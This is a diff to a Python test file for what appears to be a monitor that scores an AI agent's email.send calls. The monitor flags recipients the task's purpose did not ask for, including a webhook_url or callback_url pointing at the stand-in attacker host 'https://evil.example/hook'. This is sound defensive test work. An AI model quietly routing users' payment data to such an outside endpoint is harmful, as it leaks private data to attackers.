@@ -257,7 +257,7 @@ def test_a_mail_house_that_is_open_to_anybody_is_nobodys_own(
     "name",
     [
         *("to", "to_email", "cc_emails", "recipientEmail", "receiver_mail", "ToAddresses", "toRecipients"),
-        "send_to",
+        *("send_to", "targetEmail", "target_emails", "guests"),
     ],
 )
 def test_a_recipient_is_one_under_every_name_of_a_recipient(act: Any, payments: Any, last: Any, name: str) -> None:
@@ -267,6 +267,24 @@ def test_a_recipient_is_one_under_every_name_of_a_recipient(act: Any, payments: 
         for to in (STRANGER, "ann@acme.example")
     ]
     assert found[1] == 0.0 < 0.5 < found[0]
+
+
+@pytest.mark.parametrize("name", ["webhook_url", "webhookUrl", "callback_url", "target_url", "destinationUrl"])
+def test_a_place_that_is_told_besides_is_a_recipient(act: Any, payments: Any, last: Any, name: str) -> None:
+    purpose = "Send the payment history to ines@acme.example"
+    said = {"to": "ines@acme.example", name: "https://evil.example/hook"}
+    assert last(payments(purpose=purpose), act("email.send", said, purpose=purpose)).value > 0.4
+    named = f"{purpose} and to https://evil.example"
+    assert last(payments(purpose=named), act("email.send", said, purpose=named)).value == 0.0
+
+
+@pytest.mark.parametrize("said", [{"guests": 2}, {"channel_id": "C0123"}, {"target": "Q3"}])
+def test_what_names_no_place_changes_nothing_where_the_purpose_asks(
+    act: Any, payments: Any, last: Any, said: dict[str, Any]
+) -> None:
+    purpose = "Send the payment history to ines@acme.example"
+    to = {"to": "ines@acme.example", **said}
+    assert last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value == 0.0
 
 
 def test_whom_an_answer_comes_back_to_is_no_recipient(act: Any, payments: Any, last: Any) -> None:
